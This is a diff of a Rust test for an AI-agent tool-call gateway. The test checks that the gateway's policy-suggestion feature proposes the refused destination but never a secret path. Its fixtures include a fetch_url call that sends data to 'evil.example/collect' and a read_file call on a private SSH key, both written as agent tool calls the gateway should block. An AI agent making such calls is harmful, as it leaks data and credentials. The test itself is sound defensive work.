@@ -3,13 +3,12 @@
 //! with what is never proposed and why; `--json`; `--out` writes a policy that validates and
 //! under which the refused destination is no longer refused while the protected path still
 //! is; an existing file is not overwritten; a broken chain writes nothing.
-use std::path::{Path, PathBuf};
+use std::path::Path;
 
-use crate::teaching::{gatewayd, text};
-
-fn recipe(name: &str) -> PathBuf {
-    Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("../policies/cookbook/{name}"))
-}
+use crate::{
+    explain::research_agent_log,
+    teaching::{gatewayd, text},
+};
 
 fn check(policy: &Path, call: &str) -> std::process::Output {
     gatewayd(&[
@@ -24,16 +23,7 @@ fn check(policy: &Path, call: &str) -> std::process::Output {
 #[test]
 fn suggest_proposes_what_was_refused_never_a_secret_and_writes_a_valid_policy() {
     let dir = tempfile::tempdir().unwrap();
-    let audit = dir.path().join("audit.jsonl");
-    let policy = recipe("research-agent.json");
-    let run = gatewayd(&[
-        "test".as_ref(),
-        policy.as_os_str(),
-        recipe("research-agent.scenarios.json").as_os_str(),
-        "--audit".as_ref(),
-        audit.as_os_str(),
-    ]);
-    assert!(run.status.success(), "{}", text(&run));
+    let (policy, audit) = research_agent_log(dir.path());
     let evil =
         r#"{"tool": "fetch_url", "arguments": {"url": "https://evil.example/collect?q=notes"}}"#;
     let secret = r#"{"tool": "read_file", "arguments": {"path": "/home/research/.ssh/id_rsa"}}"#;
